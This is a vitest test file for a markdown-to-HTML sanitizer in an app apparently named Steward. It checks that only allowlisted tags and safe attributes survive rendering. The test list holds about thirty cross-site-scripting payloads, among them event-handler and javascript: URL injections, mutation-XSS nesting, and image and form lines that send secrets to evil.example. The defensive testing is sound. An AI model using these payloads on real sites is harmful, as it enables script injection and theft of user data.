import { describe, expect, test } from "vitest";
import { openBlockReader } from "./block-reader.ts";

function htmlOf(markdown: string): string {
  const { fresh } = openBlockReader().read(markdown, true);
  return fresh.map((block) => (block.kind === "markup" ? block.html : "")).join("");
}
const sha = "a".repeat(64);
const tags = /<\/?([a-z][a-z0-9-]*)((?:"[^"]*"|[^">])*)>/gi;
const known =
  /^(?:a|b|blockquote|br|code|dd|del|details|div|dl|dt|em|h[1-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|small|strong|sub|summary|sup|table|tbody|td|th|thead|tr|u|ul)$/;

describe("hostile markdown", () => {
  test.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?secret'>",
    "![s](https://evil.example/?secret=1)",
    "![s](javascript:alert(1))",
    '![x"onerror="alert(1)](https://evil.example)',
    '[x](https://evil.example/"onclick="alert(1))',
    "[x](javascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style='position:fixed'>over</p>",
    "<p onclick=alert(1)>x</p>",
    "<b/onclick=alert(1)>x</b>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>@import 'https://evil.example'</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div id=main class=card>fake</div>",
    "<steward-approval-card></steward-approval-card>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- a --!><script>alert(1)</script>",
    "<b\n onclick=alert(1)>x",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |",
    "# <script>alert(1)</script>",
    "- <svg/onload=alert(1)>",
    "<<b>script>alert(1)<</b>/script>",
  ])("%j leaves only known tags, without attributes that act or load", (markdown) => {
    for (const [, name = "", attributes = ""] of htmlOf(markdown).matchAll(tags)) {
      expect(name).toMatch(known);
      const rest = attributes
        .replace(/ (?:href="(?:https?:|mailto:)[^"<>]*"|(?:alt|title)="[^"<>]*"|align="\w+"|start="\d+")/g, "")
        .replace(/^\s*\/?$/, "");
      expect(rest, htmlOf(markdown)).toBe("");
    }
  });
});

test("HTML that may not act is shown as what was written, not silently dropped", () => {
  expect(htmlOf("Use <div class='x'> here")).toBe("<p>Use &lt;div class=&#39;x&#39;&gt; here</p>\n");
});
test("a few bare tags are kept", () => {
  expect(htmlOf("Press <kbd>Enter</kbd><br>H<sub>2</sub>O &copy;")).toBe(
    "<p>Press <kbd>Enter</kbd><br>H<sub>2</sub>O &copy;</p>\n",
  );
});
test("a remote picture becomes a link that shows its whole address", () => {
  expect(htmlOf("![chart](https://evil.example/c.png?s=1)")).toBe(
    '<p>Picture not loaded (chart): <a href="https://evil.example/c.png?s=1">https://evil.example/c.png?s=1</a></p>\n',
  );
});
test("a picture of Steward's own is shown", () => {
  expect(htmlOf(`![me](/api/attachments/${sha})`)).toContain(`<img src="/api/attachments/${sha}" alt="me">`);
});
test("a link that leads nowhere good keeps its words", () => {
  expect(htmlOf("[click **me**](javascript:alert(1))")).toBe("<p>click <strong>me</strong></p>\n");
});
